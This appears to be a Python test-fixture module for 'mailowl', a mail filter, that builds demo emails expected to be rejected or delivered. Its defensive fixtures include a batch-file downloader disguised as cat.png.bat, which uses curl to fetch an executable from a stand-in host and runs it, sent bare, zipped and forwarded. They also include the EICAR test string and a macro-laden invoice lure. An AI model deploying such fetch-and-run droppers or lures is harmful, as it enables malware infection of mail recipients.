"""The demo's mails, each built here from nothing: no sample file ships with mailowl."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from email.message import EmailMessage
from email.policy import SMTP

from mailowl.demo.office import word_document_with_macro

SENDER = "alice@sender.example"
RECIPIENT = "bob@mailowl.example"

#: the showcase's downloader: a batch file dressed up as a picture
DOWNLOADER = (b"@echo off\r\n"
              b"curl -s -o %TEMP%\\cat.png.exe http://downloads.example/cat.png.exe\r\n"
              b"start \"\" %TEMP%\\cat.png.exe\r\n")


def eicar() -> bytes:
    """The EICAR anti-virus test file, put together at run time so that no scanner flags mailowl's source."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"


def pdf() -> bytes:
    """A one-page PDF saying hello, with a correct cross-reference table."""
    stream = b"BT /F1 24 Tf 72 720 Td (Quarterly report: all is well) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def png() -> bytes:
    """A 16 x 16 picture of an owl's eye: two colours, one scan line after another."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b""
    for y in range(16):
        rows += b"\x00" + b"".join(b"\x20\x20\x20" if (x - 8) ** 2 + (y - 8) ** 2 < 20 else b"\xf0\xb0\x30"
                                   for x in range(16))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def zipped(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


@dataclass(frozen=True)
class DemoMail:
    key: str
    title: str
    #: what should happen to it: "rejected" or "delivered"
    expect: str
    message: EmailMessage

    @property
    def data(self) -> bytes:
        return self.message.as_bytes(policy=SMTP)


def _mail(subject: str, text: str, number: int) -> EmailMessage:
    message = EmailMessage()
    message["From"] = f"Alice <{SENDER}>"
    message["To"] = f"Bob <{RECIPIENT}>"
    message["Subject"] = subject
    message["Message-ID"] = f"<demo-{number}@sender.example>"
    message.set_content(text)
    return message


def demo_mails() -> list[DemoMail]:
    mails = []

    m = _mail("Look at my cat!", "Isn't it cute?", 1)
    m.add_attachment(DOWNLOADER, maintype="application", subtype="octet-stream", filename="cat.png.bat")
    mails.append(DemoMail("downloader", "the showcase's cat.png.bat downloader", "rejected", m))

    m = _mail("Anti-virus test", "The standard test file every scanner must find.", 2)
    m.add_attachment(eicar(), maintype="application", subtype="octet-stream", filename="eicar.com.txt")
    mails.append(DemoMail("eicar", "the EICAR test file", "rejected", m))

    m = _mail("Invoice 2024-117", "Please enable editing to see the invoice.", 3)
    m.add_attachment(word_document_with_macro(), maintype="application", subtype="msword", filename="invoice.doc")
    mails.append(DemoMail("macro", "a Word document with an AutoOpen macro", "rejected", m))

    m = _mail("Quarterly report", "The report is attached.", 4)
    m.add_attachment(pdf(), maintype="application", subtype="pdf", filename="report.pdf")
    mails.append(DemoMail("pdf", "a clean PDF", "delivered", m))

    m = _mail("Holiday photos", "All the photos in one zip.", 5)
    m.add_attachment(zipped("cat.png.bat", DOWNLOADER), maintype="application", subtype="zip", filename="photos.zip")
    mails.append(DemoMail("zip", "a zip holding the .bat", "rejected", m))

    inner = _mail("Look at my cat!", "Isn't it cute?", 6)
    inner.add_attachment(DOWNLOADER, maintype="application", subtype="octet-stream", filename="cat.png.bat")
    m = _mail("Fwd: Look at my cat!", "Forwarding this, is it safe?", 7)
    m.add_attachment(inner)  # message/rfc822: the walker finds the attachment inside
    mails.append(DemoMail("forwarded", "a forwarded mail carrying the downloader", "rejected", m))

    m = _mail("Our new logo", "See the logo below.", 8)
    m.add_alternative('<p>Our new logo:</p><img src="cid:logo@sender.example" alt="logo">', subtype="html")
    html = m.get_body(("html",))
    assert isinstance(html, EmailMessage)
    html.add_related(png(), maintype="image", subtype="png", cid="<logo@sender.example>", filename="logo.png",
                     disposition="inline")
    mails.append(DemoMail("inline", "a PNG inline image", "delivered", m))

    mails.append(DemoMail("plain", "a plain text mail", "delivered", _mail("Lunch?", "Lunch at noon?", 9)))
    return mails
